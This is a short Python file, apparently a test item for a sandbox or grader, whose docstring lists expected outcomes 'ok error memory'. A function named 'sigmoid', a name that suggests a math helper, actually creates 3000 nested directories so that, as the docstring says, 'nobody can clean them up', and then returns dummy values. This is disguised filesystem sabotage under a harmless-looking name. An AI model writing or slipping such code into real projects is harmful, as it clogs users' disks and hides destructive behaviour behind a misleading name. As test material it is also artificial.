"""Nest folders three thousand deep, so that nobody can clean them up.

expects: ok error memory
"""

import os


def sigmoid(z):
    here = os.getcwd()
    try:
        for _ in range(3000):
            os.mkdir("deltarule-deep-folder")
            os.chdir("deltarule-deep-folder")
    finally:
        os.chdir(here)
    return 0, 0
